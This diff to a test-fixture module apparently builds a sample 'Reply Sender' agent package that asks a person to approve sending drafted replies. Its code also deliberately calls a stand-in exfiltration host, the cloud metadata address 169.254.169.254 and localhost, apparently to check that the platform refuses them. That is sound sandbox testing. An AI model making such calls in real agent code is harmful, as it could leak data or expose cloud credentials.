@@ -145,3 +145,50 @@ def _quantity(number: int) -> int:
 
 def _price(number: int) -> Decimal:
     return Decimal(number % 100) + Decimal("0.50")
+
+
+ASKER_MANIFEST = """\
+schema: agentplatform.dev/agent/v1
+slug: reply-sender
+name: Reply Sender
+version: 1.0.0
+summary: Drafts replies and asks before it sends them.
+category: support
+kind: job
+source: {type: code, entry: "main:send"}
+input:
+  type: object
+  properties:
+    number: {type: integer, title: Replies, minimum: 1, maximum: 20, default: 9, prefill: 9}
+output:
+  item: {type: object, required: [reply], properties: {reply: {type: integer, title: Reply}, sent: {type: boolean, title: Sent}}}
+permissions:
+  network: [{host: metadata.internal.example, ports: [80], methods: [GET], why: Shows that private addresses are refused.}]
+resources: {memory_mb: 64, timeout_seconds: 60}
+pricing: {model: free}
+"""
+ASKER_MAIN = """\
+from agent_platform.sdk import AgentError, Run, agent
+
+FORM = {"type": "object", "properties": {"subject": {"type": "string", "title": "Subject", "maxLength": 60}}}
+
+
+@agent
+def send(run: Run) -> dict:
+    for url in ("https://exfiltrate.example/?all=1", "http://169.254.169.254/latest/", "http://127.0.0.1/"):
+        try:
+            run.http.get(url)
+        except AgentError as error:
+            run.log.warn(error.text)
+    facts = {"replies": run.input["number"], "to": "support inbox", "longest_wait": "6 h 12 min"}
+    decision = run.approval.request("send", f"Send {run.input['number']} drafted replies?", facts, form=FORM, expires_seconds=3600)
+    for number in range(1, run.input["number"] + 1):
+        run.emit({"reply": number, "sent": decision.approved}, key=str(number))
+    return {"subject": decision.data.get("subject", "")}
+"""
+
+
+def reply_sender(path: Path) -> Path:
+    """An agent that asks a person, and hosts that it may not ask."""
+    path.write_bytes(packed({"agent.yaml": ASKER_MANIFEST, "main.py": ASKER_MAIN}, folder="reply-sender"))
+    return path
